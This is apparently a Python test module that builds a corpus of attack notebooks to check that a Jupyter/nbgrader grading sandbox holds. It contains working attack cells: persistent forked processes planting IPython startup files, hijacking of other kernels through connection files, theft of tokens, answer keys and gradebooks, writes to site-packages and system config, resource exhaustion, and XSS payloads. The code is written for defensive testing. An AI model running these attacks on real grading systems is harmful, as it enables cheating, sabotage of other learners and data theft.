"""The attack corpus: submissions a determined learner could hand in, generated from the release notebook.

Each attacker answers every task right (so a mark lost or gained is the attack's doing) and adds one cell
that tries one class of attack on the grader. ``zz-victim`` is an honest learner graded after them all:
whatever they did, the victim must keep full marks. Run by ``tests/test_sandbox_attacks.py``; also usable
alone: ``python -m tests.attacks COURSE_FOLDER OUT_FOLDER`` writes the notebooks for a course.

Every attack prints ``LEAKED:`` before anything it managed to read, and tries only the loopback listener
the test starts (never any other address).
"""

from __future__ import annotations

import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_raw_cell

from grading import cohort
from grading.course import PROJECT, Course

MARKER = "rk-attack-survivor"

SURVIVOR = '''# Attack: a process that outlives the kernel and plants a startup file for the next learner.
import os, subprocess, sys, textwrap
code = textwrap.dedent("""
    import glob, os, sys, time
    end = time.time() + 90
    evil = "import retailkit.answers as a\\\\na.record = lambda task, value: None\\\\n"
    while time.time() < end:
        for base in glob.glob("/tmp/rk-*") + glob.glob("/tmp/*/conn") + [os.path.expanduser("~")]:
            for sub in (".ipython/profile_default/startup", "conn/.ipython/profile_default/startup"):
                try:
                    os.makedirs(os.path.join(base, sub), exist_ok=True)
                    open(os.path.join(base, sub, "00-evil.py"), "w").write(evil)
                except OSError:
                    pass
        time.sleep(0.5)
""")
subprocess.Popen([sys.executable, "-c", code, "{marker}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a second, double-forked one
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "{marker}"])
    os._exit(0)
print("survivors started")
'''

POISON = '''# Attack: find a kernel connection file (the answer key's run, another learner's) and run code in it.
import glob, json, os
found = []
for pattern in ("/tmp/**/*.json", "/root/.local/share/jupyter/runtime/*.json", "/run/user/*/jupyter/*.json",
                os.path.expanduser("~/.local/share/jupyter/runtime/*.json"), {runtime!r} + "/*.json"):
    found += glob.glob(pattern, recursive=True)
for pid in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{{pid}}/cmdline").read().replace("\\0", " "))
    except OSError:
        pass
for path in found:
    if "kernel" in path and path.endswith(".json") and os.path.exists(path):
        try:
            from jupyter_client import BlockingKernelClient
            kc = BlockingKernelClient(connection_file=path)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute("import retailkit.answers as a; a.record = lambda t, v: None")
            print("LEAKED: ran code in", path)
        except Exception as error:
            print("blocked:", type(error).__name__)
for key in glob.glob({course!r} + "/keys/*.json"):
    try:
        open(key, "a").write(" ")
        print("LEAKED: wrote the key", key)
    except OSError:
        pass
print("connection files seen:", [p for p in found if p.endswith(".json")][:5])
'''

SERVER = '''# Attack: use the tutor's running Jupyter server (its token file, its REST API).
import glob, os, socket
for path in glob.glob({runtime!r} + "/*") + glob.glob("/root/.local/share/jupyter/runtime/*"):
    try:
        print("LEAKED:", path, open(path).read())
    except OSError:
        pass
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(b"GET /api/kernels HTTP/1.0\\r\\n\\r\\n")
    print("LEAKED: reached the tutor's server")
except OSError as error:
    print("no network:", type(error).__name__)
'''

COURSES = '''# Attack: read other courses' answer keys, gradebooks and learners' work, by name and by search.
import os
for path in ({other!r} + "/keys/retail_kpis.json", {other!r} + "/gradebook.db", {course!r} + "/gradebook.db",
             {project!r} + "/course/keys/retail_kpis.json", {project!r} + "/grading/course.yml"):
    try:
        print("LEAKED:", path, open(path, errors="replace").read()[:200])
    except OSError:
        pass
for top in ("/", "/tmp", "/work", "/root", "/home"):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/dev")) or folder.count("/") > 6:
            dirs[:] = []
            continue
        for name in files:
            if name in ("gradebook.db", "retail_kpis.json", "course.yml"):
                print("LEAKED: found", os.path.join(folder, name))
'''

HOST_WRITE = '''# Attack: change the machine for the next learner (system IPython config, site-packages, project).
import os, sys
targets = {targets!r} + [
    sys.prefix + "/lib/python3.11/site-packages/00-evil.pth",
    sys.prefix + "/etc/ipython/ipython_config.py",
]
evil = "c = get_config()\\nc.InteractiveShellApp.exec_lines = ['import retailkit.answers as a; a.record = print']\\n"
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(evil)
        print("wrote (the host-side test checks whether it landed outside):", path)
    except OSError as error:
        print("blocked:", path, type(error).__name__)
'''

LIMITS = '''# Attack: take the machine's memory, processes, disk and network, then never finish.
import os, socket, subprocess, time
try:
    hog = bytearray(5 * 2**30)
    hog[::4096] = b"x" * len(hog[::4096])
    print("LEAKED: allocated 5 GiB")
except MemoryError:
    print("memory limit held")
started = 0
for _ in range(400):
    try:
        subprocess.Popen(["sleep", "300"], start_new_session=True)
        started += 1
    except OSError:
        break
print("processes started:", started)
try:
    with open(os.path.expanduser("~/big"), "wb") as f:
        for _ in range(2048):
            f.write(b"x" * 2**20)
    print("LEAKED: wrote 2 GiB")
except OSError:
    print("disk limit held")
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3)
    print("LEAKED: reached the network")
except OSError:
    print("no network")
time.sleep(600)
'''

XSS = '''# Attack: script in outputs, for the tutor's formgrader and the feedback page.
from IPython.display import display
payload = "document.title='PWNED'"
display({{"text/html": f"<script>{{payload}}</script><img src=x onerror=\\"{{payload}}\\"><b>bold</b>",
          "text/plain": "html"}}, raw=True)
display({{"application/javascript": payload, "text/plain": "js"}}, raw=True)
display({{"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{{payload}}\\"></svg>"}}, raw=True)
display({{"text/markdown": f"[click](javascript:{{payload}}) <img src=x onerror=\\"{{payload}}\\">"}}, raw=True)
display({{"image/png": f"\\"><script>{{payload}}</script>"}}, raw=True)
'''

XSS_WRITTEN = ("<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">\n\n"
               "[read more](javascript:document.title='PWNED') and **my real answer**: queues at lunch.")


HOST_TARGETS = ["/etc/ipython/ipython_config.py", "/usr/local/etc/jupyter/jupyter_config.py",
                "/root/.ipython/profile_default/startup/00-evil.py", str(PROJECT / "retailkit" / "evil.py"),
                "/tmp/rk-evil-marker.py", sys.prefix + "/lib/python3.11/site-packages/00-evil.pth",
                sys.prefix + "/etc/ipython/ipython_config.py"]


def attacks(course: Course, other_course: Path, runtime: str, port: int) -> dict[str, str]:
    """Learner id -> the attack cell's code."""
    fmt = {"course": str(course.root), "other": str(other_course), "project": str(PROJECT), "runtime": runtime,
           "port": port, "marker": MARKER}
    host_targets = HOST_TARGETS + [str(course.root / "evil.py")]
    return {"a1-survivor": SURVIVOR.format(**fmt), "a2-poison": POISON.format(**fmt),
            "a3-server": SERVER.format(**fmt), "a4-courses": COURSES.format(**fmt),
            "a5-host-write": HOST_WRITE.format(targets=host_targets), "a6-limits": LIMITS.format(**fmt),
            "a7-xss": XSS.format(), "zz-victim": ""}


def write(course: Course, out: Path, other_course: Path, runtime: str, port: int, name: str = "retail_kpis") -> Path:
    """Write ``out/<learner>/<name>.ipynb`` for every attacker and the victim; return ``out``."""
    import json

    key = json.loads((course.keys / f"{name}.json").read_text())[name]
    for learner, code in attacks(course, other_course, runtime, port).items():
        nb = nbformat.read(course.root / "release" / name / f"{name}.ipynb", as_version=4)
        cells = cohort.answer_cells(nb)
        for task, value in cohort.answers_for("amira", key, [t for t in key if t in cells]).items():
            cells[task].source = f"{cohort.variable(cells[task])} = {value!r}"
        if code:
            attack = new_code_cell(code)
            attack.id = "learner-added"
            # after the first recorded answer: the limits attack must keep the mark earned before it
            first = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade")
                         and c.cell_type == "code")
            nb.cells.insert(first + 1, attack)
        if learner == "a7-xss":
            for cell in nb.cells:
                meta = cell.metadata.get("nbgrader", {})
                if cell.cell_type == "markdown" and meta.get("solution"):
                    cell.source = XSS_WRITTEN
            raw = new_raw_cell("<script>document.title='PWNED'</script>")
            raw.metadata["raw_mimetype"] = "text/html"
            raw.id = "learner-raw"
            nb.cells.append(raw)
        (out / learner).mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, out / learner / f"{name}.ipynb")
    return out


if __name__ == "__main__":
    write(Course.open(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[1] + "-other"), "/nonexistent", 9)
